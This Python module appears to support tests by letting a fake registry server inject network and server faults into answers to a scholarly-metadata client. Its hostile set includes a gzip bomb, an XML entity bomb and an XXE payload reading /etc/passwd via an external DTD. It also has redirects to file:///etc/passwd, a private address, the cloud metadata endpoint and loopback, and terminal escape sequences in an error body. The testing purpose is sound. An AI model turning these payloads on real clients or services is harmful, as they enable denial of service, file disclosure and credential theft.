"""What can go wrong between a registry and its client, as faults that the server plays.

A plan (`Chaos`, `Scripted`) names for each request the fault that answers it, or None.
"""

from __future__ import annotations

import gzip
import hashlib
import re
import threading
from collections import Counter
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email.utils import format_datetime
from typing import Any, Literal, Protocol, TypeAlias

# Every fault; what each does stands in `registry_wire`, or here below.
Fault: TypeAlias = Literal[
    "429", "429-seconds", "429-date", "500", "503", "504-html",
    "reset", "truncated", "garbage", "html", "empty", "cut-json", "wrong-type",
    "hang", "drip", "gzip-bomb", "huge", "xml-bomb", "xml-external",
    "redirect-file", "redirect-private", "redirect-metadata", "redirect-loopback",
    "redirect-loop", "wait-an-hour", "400-escapes",
]  # fmt: skip

# What a network and a service under load really do: each comes right when asked again.
PASSING: tuple[Fault, ...] = (
    "429", "429-seconds", "429-date", "500", "503", "504-html", "reset", "truncated", "garbage",
    "html", "empty", "cut-json",
)  # fmt: skip
# The same, with those that cost a client its timeout.
SLOW: tuple[Fault, ...] = (*PASSING, "hang", "drip")
# What an evil server, or one taken over, would send.
HOSTILE: tuple[Fault, ...] = (
    "gzip-bomb", "huge", "xml-bomb", "xml-external", "redirect-file", "redirect-private",
    "redirect-metadata", "redirect-loopback", "redirect-loop",
)  # fmt: skip

_STACK = (
    b'{"status":"error","message-type":"exception","message-version":"1.0.0","message":'
    b'{"name":"class java.lang.NullPointerException","description":'
    b'"java.lang.NullPointerException","message":null,"stack":[],"cause":null}}'
)
_BOT_CHECK = (
    b"<!DOCTYPE html><html><head><title>Making sure you're not a bot!</title></head>"
    b"<body><h1>One moment</h1><script>check()</script></body></html>"
)
# The members of a gzip file stand one after the other (RFC 1952, section 2.2).
_MEMBER = gzip.compress(b" " * 10_000_000)


class Plan(Protocol):
    """Which fault answers a request."""

    def fault(self, service: str, path: str) -> Fault | None:
        """The fault for the next request of this service and path (with its query)."""


class Chaos:
    """Faults at random: the same for the n-th request of a path, however threads run."""

    def __init__(
        self,
        rate: float,
        seed: int = 0,
        kinds: Iterable[Fault] = PASSING,
        services: Iterable[str] = (),
    ) -> None:
        self.rate, self.seed, self.kinds = rate, seed, tuple(kinds)
        self.services = frozenset(services)
        self._asked: Counter[str] = Counter()
        self._lock = threading.Lock()

    def fault(self, service: str, path: str) -> Fault | None:
        if self.services and service not in self.services:
            return None
        with self._lock:
            self._asked[path] += 1
            told = f"{self.seed} {self._asked[path]} {path}"
        drawn = int.from_bytes(hashlib.sha256(told.encode()).digest()[:8], "big")
        if drawn % 10_000 >= self.rate * 10_000:
            return None
        return self.kinds[drawn // 10_000 % len(self.kinds)]


_SERVICES = frozenset("crossref arxiv datacite doi orcid pubmed crosscite landing".split())
_NOTHING: Mapping[str, Any] = {}


class Scripted:
    """Faults in order for what matches: {"crossref": ["503", None, "reset"], r"/works/": …}.

    A key is a service's name or a regular expression searched in the path. The list is played
    once; one in `always` answers each time.
    """

    def __init__(
        self,
        script: Mapping[str, Iterable[Fault | None]] = _NOTHING,
        always: Mapping[str, Fault] = _NOTHING,
    ) -> None:
        self._script = {key: list(faults) for key, faults in script.items()}
        self._always = dict(always)
        self._lock = threading.Lock()

    def fault(self, service: str, path: str) -> Fault | None:
        with self._lock:
            for key, faults in self._script.items():
                if faults and _meant(key, service, path):
                    return faults.pop(0)
        for key, fault in self._always.items():
            if _meant(key, service, path):
                return fault
        return None


def _meant(key: str, service: str, path: str) -> bool:
    return key == service if key in _SERVICES else re.search(key, path) is not None


@dataclass(frozen=True, slots=True)
class Played:
    """An answer that a fault puts in the place of the true one."""

    status: int
    body: bytes
    headers: tuple[tuple[str, str], ...] = ()


def played(fault: Fault, home: str, trap: str) -> Played | None:
    """The answer of those faults that are an answer; None for those played on the wire."""
    text, html = ("Content-Type", "text/plain"), ("Content-Type", "text/html; charset=utf-8")
    json, atom = ("Content-Type", "application/json"), ("Content-Type", "application/atom+xml")
    rate = b"Rate exceeded."
    soon = format_datetime(datetime.now(UTC) + timedelta(seconds=1), usegmt=True)
    answers = {
        "429": Played(429, rate, (text,)),
        "429-seconds": Played(429, rate, (text, ("Retry-After", "1"))),
        "429-date": Played(429, _BOT_CHECK, (html, ("Retry-After", soon))),
        "wait-an-hour": Played(429, rate, (text, ("Retry-After", "3600"))),
        "400-escapes": Played(400, b"\x1b[2J\x1b]0;owned\x07 no \xc2\x9b2J", (text,)),
        "500": Played(500, _STACK, (json,)),
        "503": Played(503, b"Service Unavailable", (text,)),
        "504-html": Played(504, b"<html><h1>504 Gateway Time-out</h1></html>", (html,)),
        "garbage": Played(200, bytes(range(256)) * 7, (json,)),
        "html": Played(200, _BOT_CHECK, (html,)),
        "empty": Played(200, b"", (json,)),
        "gzip-bomb": Played(200, _MEMBER * 100, (json, ("Content-Encoding", "gzip"))),
        "xml-bomb": Played(200, _xml_bomb(), (atom,)),
        "xml-external": Played(200, _xml_external(trap), (atom,)),
    }
    redirects = {
        "redirect-file": "file:///etc/passwd",
        "redirect-private": "http://10.0.0.1/works",
        "redirect-metadata": "http://169.254.169.254/latest/meta-data/",
        "redirect-loopback": f"{trap}/stolen",
        "redirect-loop": f"{home}/loop",
    }
    if fault in redirects:
        return Played(302, b"", (("Location", redirects[fault]),))
    return answers.get(fault)


def _feed_with(doctype: str, entity: str) -> bytes:
    return (
        f"<?xml version='1.0'?>\n<!DOCTYPE feed [{doctype}]>\n"
        '<feed xmlns="http://www.w3.org/2005/Atom"><entry>'
        f"<id>http://arxiv.org/abs/2211.08667v1</id><title>&{entity};</title>"
        "<published>2022-11-16T00:00:00Z</published><author><name>A B</name></author>"
        "</entry></feed>"
    ).encode()


def _xml_bomb() -> bytes:
    """Ten levels of ten references each: 10^10 characters when expanded."""
    levels = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 11)
    )  # fmt: skip
    return _feed_with(f'<!ENTITY l0 "l">{levels}', "l10")


def _xml_external(trap: str) -> bytes:
    return _feed_with(
        f'<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "{trap}/stolen.dtd"> %p;',
        "x",
    )
